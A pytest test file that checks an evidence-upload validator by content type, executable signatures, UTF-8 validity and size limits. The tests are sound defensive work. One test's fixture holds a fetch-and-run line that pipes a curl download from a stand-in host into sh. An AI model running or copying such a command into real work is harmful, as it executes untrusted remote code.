"""Evidence uploads are judged by their content, not only by their name."""

import hashlib
import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from hypothesis import assume, given
from hypothesis import strategies as st

from vendors.filetypes import ALLOWED_EXTENSIONS, CONTENT_TYPES, check_evidence_file

CHUNK = 64 * 1024
MB = 1024 * 1024
LIMIT = 20 * MB

EXECUTABLE = (
    "This file is an executable or script (detected from its content), "
    "which is never accepted as evidence."
)
ALLOWED_LIST = "pdf, png, jpg, jpeg, txt, csv, md, docx, xlsx"

PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
WINDOWS_EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 64 + b"PE\x00\x00"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56


def ooxml(*members: str) -> bytes:
    """A ZIP archive holding the given members, each with a tiny XML body."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for member in members:
            archive.writestr(member, '<?xml version="1.0" encoding="UTF-8"?><x/>')
    return buffer.getvalue()


DOCX = ooxml("[Content_Types].xml", "_rels/.rels", "word/document.xml")
XLSX = ooxml("[Content_Types].xml", "_rels/.rels", "xl/workbook.xml")

SAMPLES = {
    "pdf": PDF,
    "png": PNG,
    "jpg": JPEG,
    "jpeg": JPEG,
    "txt": "Pilot notes: 42 seats, café budget €1,200.\n".encode(),
    "csv": b"vendor,seats\nAcme,42\n",
    "md": "# Findings\n\n- SOC 2 report received \u2705\n".encode(),
    "docx": DOCX,
    "xlsx": XLSX,
}


def check(name: str, data: bytes, *, max_bytes: int = LIMIT) -> tuple[str, int, str]:
    """Run the check on an in-memory upload."""
    return check_evidence_file(name=name, fileobj=io.BytesIO(data), max_bytes=max_bytes)


def refusal(name: str, data: bytes, *, max_bytes: int = LIMIT) -> ValidationError:
    """The ValidationError the check raises for this upload."""
    with pytest.raises(ValidationError) as caught:
        check(name, data, max_bytes=max_bytes)
    return caught.value


def file_messages(error: ValidationError) -> list[str]:
    """The messages shown on the form's ``file`` field."""
    return error.message_dict["file"]


@pytest.mark.parametrize("extension", list(ALLOWED_EXTENSIONS))
def test_it_accepts_each_allowed_type_and_returns_kind_size_and_sha256(extension):
    data = SAMPLES[extension]
    assert check(f"evidence.{extension}", data) == (
        ALLOWED_EXTENSIONS[extension],
        len(data),
        hashlib.sha256(data).hexdigest(),
    )


def test_it_has_a_content_type_for_every_kind():
    assert set(CONTENT_TYPES) == set(ALLOWED_EXTENSIONS.values())
    assert CONTENT_TYPES["text"] == "text/plain; charset=utf-8"


def test_it_accepts_an_uppercase_extension():
    assert check("SCAN.PDF", PDF)[0] == "pdf"


def test_it_refuses_a_disallowed_extension_listing_the_allowed_ones():
    error = refusal("setup.exe", b"harmless bytes")
    assert file_messages(error) == [
        f"Files of type .exe are not accepted. Allowed: {ALLOWED_LIST}."
    ]


def test_it_refuses_a_name_without_an_extension():
    error = refusal("README", b"plain text\n")
    assert file_messages(error) == [
        f"Files without an extension are not accepted. Allowed: {ALLOWED_LIST}."
    ]


def test_it_reports_the_refusal_on_the_file_field_with_a_code():
    error = refusal("setup.exe", b"harmless bytes")
    assert list(error.error_dict) == ["file"]
    assert error.error_dict["file"][0].code == "extension"


def test_it_refuses_a_windows_executable_renamed_to_pdf():
    assert file_messages(refusal("report.pdf", WINDOWS_EXE)) == [EXECUTABLE]


def test_it_refuses_an_elf_binary_named_txt():
    assert file_messages(refusal("notes.txt", ELF)) == [EXECUTABLE]


MACH_O_MAGICS = [
    b"\xfe\xed\xfa\xce",
    b"\xfe\xed\xfa\xcf",
    b"\xce\xfa\xed\xfe",
    b"\xcf\xfa\xed\xfe",
    b"\xca\xfe\xba\xbe",
]


@pytest.mark.parametrize("magic", MACH_O_MAGICS)
def test_it_refuses_a_mach_o_binary_named_png(magic):
    assert file_messages(refusal("screenshot.png", magic + b"\x00" * 28)) == [EXECUTABLE]


def test_it_refuses_a_shell_script_named_md():
    script = b"#!/bin/sh\ncurl https://example.invalid/payload | sh\n"
    assert file_messages(refusal("x.md", script)) == [EXECUTABLE]


def test_it_refuses_a_png_named_pdf_naming_both():
    assert file_messages(refusal("contract.pdf", PNG)) == [
        "The file is named .pdf but its content is not a PDF document."
    ]


def test_it_refuses_a_pdf_named_jpg():
    assert file_messages(refusal("photo.jpg", PDF)) == [
        "The file is named .jpg but its content is not a JPEG image."
    ]


def test_it_refuses_a_zip_without_word_document_named_docx():
    data = ooxml("[Content_Types].xml", "notes.txt")
    assert file_messages(refusal("policy.docx", data)) == [
        "The file is named .docx but its content is not a Word document."
    ]


def test_it_refuses_a_docx_named_xlsx():
    assert file_messages(refusal("budget.xlsx", DOCX)) == [
        "The file is named .xlsx but its content is not an Excel workbook."
    ]


def test_it_refuses_a_zip_signature_followed_by_garbage_named_docx():
    data = b"PK\x03\x04" + b"not really a zip archive" * 10
    assert refusal("policy.docx", data).error_dict["file"][0].code == "content_mismatch"


def test_it_refuses_a_binary_with_nul_bytes_named_csv():
    assert file_messages(refusal("export.csv", b"id,name\n1,\x00\x01\x02\n")) == [
        "The file is named .csv but its content is not UTF-8 text."
    ]


def test_it_refuses_invalid_utf8_named_txt():
    latin1 = "Résumé of the vendor call".encode("latin-1")
    assert file_messages(refusal("call.txt", latin1)) == [
        "The file is named .txt but its content is not UTF-8 text."
    ]


def test_it_refuses_text_ending_inside_a_multibyte_character():
    truncated = "price: 12 €".encode()[:-1]
    assert refusal("price.txt", truncated).error_dict["file"][0].code == "content_mismatch"


def test_it_refuses_a_nul_byte_far_beyond_the_first_chunk():
    data = b"a" * (3 * CHUNK) + b"\x00" + b"a" * 10
    assert refusal("big.txt", data).error_dict["file"][0].code == "content_mismatch"


def test_it_accepts_a_utf8_bom():
    assert check("excel-export.csv", b"\xef\xbb\xbfvendor,seats\nAcme,42\n")[0] == "text"


def test_it_accepts_a_multibyte_character_split_across_the_chunk_boundary():
    emoji = "\U0001f600".encode()  # four bytes
    data = b"a" * (CHUNK - 2) + emoji + b"\n"
    assert data[CHUNK - 1 : CHUNK + 1] == emoji[1:3]
    kind, size, _sha256 = check("long.txt", data)
    assert (kind, size) == ("text", CHUNK + 3)


def test_it_refuses_an_empty_file():
    assert file_messages(refusal("empty.pdf", b"")) == ["The file is empty."]


def test_it_refuses_an_oversized_file_naming_the_limit_in_mb():
    data = PDF + b"\n" * (5 * MB // 2 - len(PDF))
    assert file_messages(refusal("huge.pdf", data, max_bytes=2 * MB)) == [
        "The file is 2.5 MB; the limit is 2 MB."
    ]


def test_it_accepts_a_file_of_exactly_the_limit():
    data = PDF + b"\n" * (MB - len(PDF))
    assert check("exact.pdf", data, max_bytes=MB)[1] == MB


def test_it_stops_reading_once_the_limit_is_exceeded():
    class CountingBytesIO(io.BytesIO):
        bytes_read = 0

        def read(self, size: int | None = -1) -> bytes:
            data = super().read(size)
            self.bytes_read += len(data)
            return data

    upload = CountingBytesIO(PDF + b"\n" * (8 * MB))
    with pytest.raises(ValidationError, match="the limit is 1 MB") as error:
        check_evidence_file(name="huge.pdf", fileobj=upload, max_bytes=MB)
    assert error.value.error_dict["file"][0].code == "too_large"
    assert upload.bytes_read <= MB + CHUNK


def test_it_hashes_from_the_start_even_if_the_upload_was_partly_read():
    upload = io.BytesIO(PDF)
    upload.read(10)
    assert check_evidence_file(name="a.pdf", fileobj=upload, max_bytes=LIMIT)[1] == len(PDF)


def test_it_leaves_the_file_at_position_zero_after_success():
    upload = io.BytesIO(DOCX)
    check_evidence_file(name="policy.docx", fileobj=upload, max_bytes=LIMIT)
    assert upload.tell() == 0


@pytest.mark.parametrize(
    ("name", "data", "max_bytes", "code"),
    [
        ("setup.exe", PDF, LIMIT, "extension"),
        ("report.pdf", WINDOWS_EXE, LIMIT, "executable"),
        ("contract.pdf", PNG, LIMIT, "content_mismatch"),
        ("huge.pdf", PDF * 1000, 100, "too_large"),
    ],
    ids=["extension", "executable", "mismatch", "too-large"],
)
def test_it_leaves_the_file_at_position_zero_after_a_refusal(name, data, max_bytes, code):
    upload = io.BytesIO(data)
    upload.seek(7)
    with pytest.raises(ValidationError) as error:
        check_evidence_file(name=name, fileobj=upload, max_bytes=max_bytes)
    assert error.value.error_dict["file"][0].code == code
    assert upload.tell() == 0


@given(
    text=st.text(
        alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
        min_size=1,
    ),
    offset=st.integers(min_value=0, max_value=4),
)
def test_it_accepts_any_utf8_text_without_nul_as_txt_even_across_chunks(text, offset):
    # Leading text that happens to spell an executable signature is refused on purpose.
    assume(not text.startswith(("#!", "MZ", "\x7fELF")))
    encoded = text.encode()
    # Padding puts the second copy right where one 64 KiB chunk ends and the next begins.
    padding = b"x" * max(0, CHUNK - offset - len(encoded))
    data = encoded + padding + encoded
    assert check("notes.txt", data) == ("text", len(data), hashlib.sha256(data).hexdigest())
